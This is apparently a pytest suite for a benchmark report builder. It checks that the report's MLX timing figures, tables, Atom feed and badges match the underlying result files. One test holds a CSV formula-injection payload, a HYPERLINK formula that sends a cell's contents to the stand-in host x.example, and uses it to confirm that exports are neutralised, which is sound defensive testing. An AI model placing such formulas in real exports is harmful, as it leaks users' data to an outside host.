"""What the report says is what the results say: each figure is computed again here, from the result files alone."""

import base64
import csv
import hashlib
import json
import re
import statistics
import xml.etree.ElementTree as ET
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import sites
from hypothesis import given
from hypothesis import strategies as some
from ledgers import MACHINE, entry
from synthetic import SECONDS, TIMES, History
from test_text import inert

from scripts import alerts, command, ledger
from scripts.history import Series
from scripts.report import attribution, exports, limits, newest, shells, site, timeline, trust
from scripts.report.__main__ import main

ATOM = {"atom": "http://www.w3.org/2005/Atom"}


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> History:
    return sites.two_machines(tmp_path_factory.mktemp("site"))


@pytest.fixture(scope="module")
def html(made) -> Path:
    return sites.built(made)


def provided(path: Path) -> object:
    """The data that a page would load."""
    text = path.read_text()
    assert text.startswith("report.provide(")
    return json.loads(f"[{text.removeprefix('report.provide(').rstrip().removesuffix(');')}]")[1]


def table(html: Path, name: str) -> list[dict]:
    return json.loads((html / "tables" / f"{name}.json").read_text())


def test_figures_are_those_of_the_ledger(html):
    rows = table(html, "cases")
    mac = [row for row in rows if row["machine"] == "mac-studio"]
    assert {row["case"] for row in mac} == set(sites.CASES)
    for row in mac:
        entries = [json.loads(line) for line in Path(row["file"]).with_suffix(".jsonl").read_text().splitlines()]
        (entry,) = [one for one in entries if one.get("case") == row["case"] and one["what"] == "case"]
        seconds = statistics.median(entry["measurement"]["step"]["seconds"])
        assert row["commit"] == entries[0]["commit"]
        assert row["milliseconds"] == pytest.approx(seconds * 1e3)
        assert row["gigabytes_per_second"] == pytest.approx(entry["ideal_bytes"] / seconds / 1e9)
        assert row["ceiling_fraction"] == pytest.approx(
            entry["ideal_bytes"] / seconds / entry["ceiling"]["bytes_per_second"]
        )
        assert row["peak_ratio"] == pytest.approx(2)
        assert row["error"] == entry["measurement"]["error"]
        assert row["operations_per_byte"] == pytest.approx(13 * entry["parameters"] / entry["ideal_bytes"])


def test_the_parts_are_the_measurement(html):
    for row in table(html, "cases"):
        if row["machine"] != "mac-studio":
            continue
        launch, ceiling, leaves = sites.MACHINE["launch"], 340e9, row["leaves"]
        parts = {name: row[f"{name.replace(' ', '_')}_milliseconds"] for name in attribution.HOW}
        assert sum(parts.values()) == pytest.approx(row["milliseconds"])
        roofline = launch["fixed"] + launch["each"] * leaves + row["ideal_bytes"] / ceiling
        assert parts[attribution.ROOFLINE] == pytest.approx(1e3 * roofline)
        assert parts[attribution.TRAFFIC] == pytest.approx(250 * row["ideal_bytes"] / ceiling, rel=1e-6)
        assert parts[attribution.LAUNCHES] == pytest.approx(1e3 * launch["each"] * (150 - leaves))
        assert parts[attribution.HOST] == pytest.approx(0.1)


def test_the_limits_are_the_machines(html):
    (mac,) = [one for one in provided(html / "data/newest.js")["machines"] if one["machine"] == "mac-studio"]
    found, smallest = mac["limits"], 1024 * 16
    assert [(one["kind"], one["gigabytes_per_second"]) for one in found["ceilings"]] == [
        (limits.MEASURED, pytest.approx(340)),
        (limits.SPEC, 400),
    ]
    assert [(one["start"], one["end"]) for one in found["cache"]] == [(smallest, 48 * 2**20)]
    launch = sites.MACHINE["launch"]["fixed"] + sites.MACHINE["launch"]["each"]
    slope = [(one["resident_bytes"], one["gigabytes_per_second"]) for one in found["launch"]]
    assert slope[0] == (smallest, pytest.approx(1024 * 28 / launch / 1e9))
    assert slope[1] == (pytest.approx(340e9 * launch * 16 / 28), pytest.approx(340))
    for one in found["roofs"]:
        rate = one["gigaoperations_per_second"] / one["operations_per_byte"]
        assert rate == pytest.approx(one["gigabytes_per_second"])


def test_a_machine_without_a_ledger_has_asvs_seconds_and_says_so(html):
    pc = [row for row in table(html, "cases") if row["machine"] == "pc"]
    assert {row["case"] for row in pc} == set(sites.CASES)
    (told,) = {row["file"] for row in pc}
    ((values, (names,), *_),) = [json.loads(Path(told).read_text())["results"][SECONDS]]
    known = dict(zip((name.strip("'") for name in names), values, strict=True))
    assert all(row["milliseconds"] == pytest.approx(1e3 * known[row["case"]]) for row in pc)
    (about,) = [one for one in provided(html / "data/newest.js")["machines"] if one["machine"] == "pc"]
    assert newest.NO_LEDGER in about["problems"]
    assert about["limits"] == {"cache": [], "ceilings": [], "launch": [], "roofs": []}


def test_what_is_missing_is_named_with_its_reason(html):
    missing = {(row["machine"], row["case"]): (row["state"], row["why"]) for row in table(html, "missing")}
    assert missing["mac-studio", sites.FAILED] == ("failed", "w is off by 0.1, accepted is 4e-06")
    assert missing["mac-studio", sites.SKIPPED] == ("skipped", "only the profile full has it")
    assert missing["pc", sites.FAILED][0] == "failed"
    assert len(missing) == 4


def test_every_point_of_the_history_is_in_a_piece(made, html):
    data = provided(html / "data/history.js")
    assert [one["hash"] for one in data["commits"]] == made.commits
    count, listed = 0, {row["file"]: row for row in table(html, "series")}
    for machine, metrics in data["series"].items():
        for metric, workloads in metrics.items():
            for workload, told in workloads.items():
                piece = f"data/series/{told['piece']}"
                row = listed[f"{piece}.csv"]
                assert (row["machine"], row["metric"], row["workload"]) == (machine, metric, workload)
                assert json.loads((html / f"{piece}.json").read_text()) == provided(html / f"{piece}.js")
                with (html / f"{piece}.csv").open(newline="") as lines:
                    points = list(csv.DictReader(lines))
                for one in provided(html / f"{piece}.js"):
                    case = "/".join(filter(None, (one["variant"], workload)))
                    for place, position in enumerate(one["positions"]):
                        result = json.loads(Path(data["runs"][one["runs"][place]]["file"]).read_text())
                        values, (names,), *_ = result["results"][metric]
                        value = values[names.index(repr(case))]
                        assert result["commit_hash"] == made.commits[position]
                        assert result["params"]["machine"] == machine
                        assert one["values"][place] == pytest.approx(value, rel=1e-5)
                        (point,) = [
                            point
                            for point in points
                            if (point["variant"], point["commit"]) == (one["variant"], made.commits[position])
                        ]
                        assert float(point["value"]) == one["values"][place]
                        assert float(point["high"]) == pytest.approx(1.01 * value, rel=1e-5)
                        assert point["file"] == data["runs"][one["runs"][place]]["file"]
                        assert one["low"][place] == pytest.approx(0.99 * value, rel=1e-5)
                        if metric == SECONDS:
                            assert one["roofline"][place] == pytest.approx(sites.CASES[case] / 2, rel=1e-4)
                        count += 1
    assert count == 2 * sites.COUNT * (3 * len(sites.CASES) + 2)


def test_the_confirmed_change_comes_first_in_words_and_in_the_feed(made, html):
    first = provided(html / "data/newest.js")["news"][0]
    assert (first["state"], first["machine"], first["worse"]) == (alerts.CONFIRMED, "mac-studio", True)
    size = float(re.match(rf"{sites.SLOWER}: slower \+([0-9.]+)% ", first["told"][0])[1])
    assert size == pytest.approx(20, abs=2)
    feed = ET.parse(html / exports.FEED)
    (entry,) = feed.findall("atom:entry", ATOM)
    assert sites.SLOWER in entry.find("atom:title", ATOM).text
    good, bad = map(made.commits.index, re.findall("[0-9a-f]{40}", entry.find("atom:content", ATOM).text))
    assert good < sites.STEP <= bad
    assert entry.find("atom:link", ATOM).get("href") == first["link"]
    assert json.loads((html / "badge.json").read_text())["message"] == "1 slower or larger"
    assert "1 slower or larger" in (html / "badge.svg").read_text()


def test_tables_are_the_same_as_csv_and_as_json(html):
    names = {path.stem for path in (html / "tables").iterdir()}
    assert {
        "cases",
        "missing",
        "alerts",
        "series",
        "runs",
        "calibration",
        "noise",
        "controls",
        "environments",
        "release_changes",
        "release_timings",
        "release_figures",
    } == names
    for name in names:
        with (html / "tables" / f"{name}.csv").open(newline="") as file:
            rows = list(csv.DictReader(file))
        told = table(html, name)
        assert len(rows) == len(told) > 0
        assert list(rows[0]) == list(told[0])
        for row, same in zip(rows, told, strict=True):
            for key, value in same.items():
                written = "" if value is None else value
                assert row[key] == str(written) or float(row[key]) == pytest.approx(value)


def test_the_summary_has_every_case_and_what_changed(html):
    text = (html / exports.SUMMARY).read_text()
    assert text.count("\n| `float32/") == 2 * 3
    assert "- **confirmed** (`mac-studio`, " in text
    assert "- FAILED `split/float32/two_leaves`: `w is off by 0.1, accepted is 4e-06`\n" in text


def test_noise_is_what_was_put_in_whatever_steps_there_are():
    logs = np.random.default_rng(1).normal(0, 0.005, 500) + 0.5 * (np.arange(500) >= 200)
    none = np.full(500, np.nan)
    places = np.arange(500)
    (told,) = trust.noise(
        [Series("mac", "", SECONDS, "a/b/c", places, np.exp(logs), none, none, places)], {SECONDS: "seconds"}
    )
    assert told["noise"] == pytest.approx(0.005, rel=0.15)


def test_the_environment_log_has_the_other_mlx(made, html):
    (bump,) = [row for row in table(html, "environments") if row["what"] == "mlx" and row["was"]]
    assert (bump["is"], bump["was"], bump["commit"]) == ("0.32.4", "0.31.0", made.commits[sites.BUMP])


EVIL = '=HYPERLINK("http://x.example/?"&A1,"ok");=1+1\n=2'


def test_no_cell_of_any_table_is_a_formula(tmp_path):
    made = History(tmp_path, 2)
    sites.describe(made)
    for night in range(2):
        path = made.add(night, {SECONDS: {EVIL: 0.002}}, "m;=1", {"mlx": "1"}, cpu=EVIL)
        told = json.loads(path.read_text())
        path.write_text(json.dumps(told | {"requirements": {EVIL: EVIL}}))
    tables = list(sites.built(made).rglob("*.csv"))
    assert len(tables) == len(site.TABLES) + 1
    assert [path.name for path in tables if not inert(path.read_text())] == []
    assert any("HYPERLINK" in path.read_text().partition("\n")[0] for path in tables)


def test_a_table_is_bounded_and_no_name_takes_anothers_place(tmp_path):
    rows = [
        {"machine\u200b": "x", "machine": "mac\n", "y" * 1000: "\ud800" + "z" * 1000, "n": 1, "m": 0.5},
        {"n": None},
    ]
    exports.write_table(tmp_path, "t", pd.DataFrame(rows))
    first = {"machine*": "x", "machine": "mac", "y" * 300: "z" * 300, "n": 1.0, "m": 0.5}
    assert json.loads((tmp_path / "t.json").read_text()) == [first, dict.fromkeys(first)]
    with (tmp_path / "t.csv").open(newline="") as file:
        assert list(csv.DictReader(file)) == [
            {key: str(value) for key, value in first.items()},
            dict.fromkeys(first, ""),
        ]


@given(some.tuples(some.text(), some.text(), some.text()))
def test_a_pieces_name_is_safe(key):
    assert timeline.name(key).isalnum()
    assert len(timeline.name(key)) == 16


def test_the_policy_lets_nothing_in():
    assert "unsafe-eval" not in site.POLICY
    assert "script-src 'self';" in site.POLICY
    assert "'unsafe-inline'" not in site.POLICY.replace("style-src-attr 'unsafe-inline'", "")


def test_asvs_libraries_are_the_ones_it_asks_for():
    import asv

    page = (Path(asv.__file__).parent / "www" / "index.html").read_text()
    assert "https://" in page
    told = shells.offline(page)
    assert set(shells.ELSEWHERE.findall(told)) == set()
    same = []
    for name, kind, told in re.findall(r'/([^/"]+)" integrity="(sha256|sha512)-([^"]+)"', page):
        path = shells.LIBRARIES / name
        if path.exists() and base64.b64encode(hashlib.new(kind, path.read_bytes()).digest()).decode() == told:
            same.append(name)
    assert sorted(same) == [
        "bootstrap.min.css",
        "bootstrap.min.js",
        "jquery-3.3.1.min.js",
        "jquery.flot.orderBars.js",
        "md5.min.js",
    ]


def newest_of(made: History, *lines: object) -> dict:
    """What the report says of a machine whose ledger has these lines."""
    (path,) = made.results.glob("mac/*mlx*.json")
    path.with_suffix(".jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    html = sites.built(made)
    (told,) = provided(html / "data/newest.js")["machines"]
    return told | {"rows": table(html, "cases"), "missing": table(html, "missing")}


class TestOddLedgers:
    """One odd entry is named and left out; what is good beside it stays."""

    CASE, OTHER = f"eager/{sites.TREE}", f"compiled/{sites.TREE}"

    @pytest.fixture
    def little(self, tmp_path) -> History:
        made = History(tmp_path, 1)
        sites.describe(made)
        made.add(0, {SECONDS: {self.CASE: 0.002, self.OTHER: 0.001}})
        return made

    def good(self, case: str, **changed: object) -> dict:
        return ledger.with_ceiling([MACHINE, entry(case, 0.002)])[1] | changed

    @pytest.mark.parametrize(
        "host",
        [
            {"settings": None},
            {"launch": None},
            {"ceiling": None},
            {"description": 5},
            {"machine": {"cache_bytes": "many"}},
            {"spec": {"gigabytes_per_second": "fast", "source": "x"}},
            {"launch": {"fixed": 0, "each": 0}},
        ],
    )
    def test_a_host_that_is_odd(self, little, host):
        told = newest_of(little, MACHINE | host, self.good(self.CASE))
        assert {row["case"] for row in told["rows"]} <= {self.CASE, self.OTHER}
        assert told["rows"][0]["milliseconds"] == pytest.approx(2)

    @pytest.mark.parametrize(
        "changed",
        [{"measurement": None}, {"ideal_bytes": "many"}, {"ceiling": None}, {"resident_bytes": None}, {"case": 5}],
    )
    def test_a_case_that_is_odd(self, little, changed):
        told = newest_of(little, MACHINE, self.good(self.CASE), self.good(self.OTHER) | changed)
        (row,) = told["rows"]
        assert (row["case"], row["gigabytes_per_second"] > 0) == (self.CASE, True)
        assert [line for line in told["problems"] if "jsonl" in line]

    @pytest.mark.parametrize("seconds", [[float("nan")] * 7, ["x"], [0.0]])
    def test_seconds_that_are_none(self, little, seconds):
        odd = self.good(self.OTHER)
        odd["measurement"]["step"]["seconds"] = seconds
        (row,) = newest_of(little, MACHINE, odd, self.good(self.CASE))["rows"]
        assert row["case"] == self.CASE

    def test_an_mlx_that_tells_no_bytes(self, little):
        old = self.good(self.CASE)
        old["measurement"]["work"]["modelled_bytes"] = None
        (row,) = newest_of(little, MACHINE, old)["rows"]
        assert row["gigabytes_per_second"] > 0
        assert row.get("rest_milliseconds") is None

    def test_a_run_that_was_killed_before_its_first_case(self, little):
        told = newest_of(little, MACHINE, {"what": "started", "case": self.CASE})
        assert {row["case"] for row in told["rows"]} == {self.CASE, self.OTHER}
        assert told["limits"]["ceilings"] == []

    def test_a_failure_that_is_odd(self, little):
        failures = [{"what": "failure", "case": 5, "message": 5}, {"what": "failure", "case": "a/b/c", "message": None}]
        told = newest_of(little, MACHINE, self.good(self.CASE), *failures)
        assert {row["case"].rstrip("/") for row in told["missing"]} >= {"5", "a/b/c"}

    def test_a_case_that_failed_once_is_measured_and_not_missing(self, little):
        told = newest_of(little, MACHINE, self.good(self.CASE), {"what": "started", "case": self.CASE})
        assert not [row for row in told["missing"] if row["case"] == self.CASE]
        assert any("failed in another process" in line for line in told["problems"])

    def test_each_run_has_its_own_launch_costs(self, little):
        slow = MACHINE | {"launch": {"fixed": 0.001, "each": 0.0}}
        lines = ledger.with_ceiling([slow, entry(self.CASE, 0.1), MACHINE, entry(self.OTHER, 0.1)])
        rows = {row["case"]: row for row in newest_of(little, *lines)["rows"]}
        assert rows[self.CASE]["launches_milliseconds"] == 0
        assert rows[self.OTHER]["launches_milliseconds"] == pytest.approx(148 * 2e-3)

    def test_every_ceiling_that_is_used_is_drawn(self, little):
        faster = MACHINE | {"ceiling": MACHINE["ceiling"] | {"bytes_per_second": 400e9}}
        lines = ledger.with_ceiling([MACHINE, entry(self.CASE, 0.1), faster, entry(self.OTHER, 0.1)])
        drawn = newest_of(little, *lines)["limits"]["ceilings"]
        assert [round(one["gigabytes_per_second"]) for one in drawn] == [340, 400, 400]
        assert [one["kind"] for one in drawn] == [limits.MEASURED, limits.MEASURED, limits.SPEC]


@pytest.mark.parametrize("moment", [1e300, float("nan"), -1e15, "yesterday"])
def test_a_date_that_is_none(tmp_path, moment):
    made = History(tmp_path, 2)
    sites.describe(made)
    path = made.add(0, {SECONDS: {"eager/float32/two_leaves": 0.002}})
    made.add(1, {SECONDS: {"eager/float32/two_leaves": 0.003}})
    told = json.loads(path.read_text())
    told["results"][SECONDS][3] = moment
    path.write_text(json.dumps(told))
    (row,) = table(sites.built(made), "cases")
    assert row["milliseconds"] == pytest.approx(3)


def test_several_results_of_a_commit_are_several_points_each_with_its_file(tmp_path):
    made = History(tmp_path, 5)
    sites.describe(made)
    for night in range(5):
        for version, seconds in (("0.31.0", 0.002), ("0.32.4", 0.004)):
            made.add(night, {SECONDS: {"eager/a/b": seconds}, TIMES: {"eager/a/b": seconds}}, pins={"mlx": version})
    html = sites.built(made)
    data = provided(html / "data/history.js")
    piece = data["series"]["mac"][SECONDS]["a/b"]["piece"]
    for one in provided(html / f"data/series/{piece}.js"):
        version = one["environment"].removeprefix("mlx ")
        assert set(one["values"]) == {{"0.31.0": 0.002, "0.32.4": 0.004}[version]}
        assert {data["runs"][run]["pins"]["mlx"] for run in one["runs"]} == {version}
        assert set(one["roofline"]) == {1}
    assert not [row for row in table(html, "environments") if row["was"]]


def test_two_results_of_one_commit_are_not_blended(tmp_path):
    made = History(tmp_path, 2)
    sites.describe(made)
    for version, seconds in (("1", 0.002), ("2", 0.004)):
        made.add(0, {SECONDS: {"eager/a/b": seconds}}, pins={"mlx": version})
    html = sites.built(made)
    data = provided(html / "data/history.js")
    (one,) = provided(html / f"data/series/{data['series']['mac'][SECONDS]['a/b']['piece']}.js")
    files = [json.loads(Path(data["runs"][run]["file"]).read_text())["results"][SECONDS][0] for run in one["runs"]]
    assert [[value] for value in one["values"]] == files


def test_nothing_of_an_older_report_stays(made, tmp_path):
    little = History(tmp_path, 1)
    sites.describe(little)
    sites.built(little)
    (tmp_path / "html/tables/old.csv").write_text("")
    (tmp_path / "html/data/series/old.js").write_text("")
    html = sites.built(little)
    assert not list(html.glob("*/old.csv")) + list(html.glob("data/series/*"))


def test_a_folder_with_something_else_in_it_is_not_emptied(tmp_path, made, capsys):
    (tmp_path / "thesis.txt").write_text("years of work")
    with pytest.raises(command.UserError, match="has something else in it"):
        main(["--lane", str(made.config), "--html", str(tmp_path)])
    assert (tmp_path / "thesis.txt").read_text() == "years of work"


def test_a_mistake_is_told_in_one_line(tmp_path):
    with pytest.raises(command.UserError, match=r"none\.json"):
        main(["--lane", str(tmp_path / "none.json")])
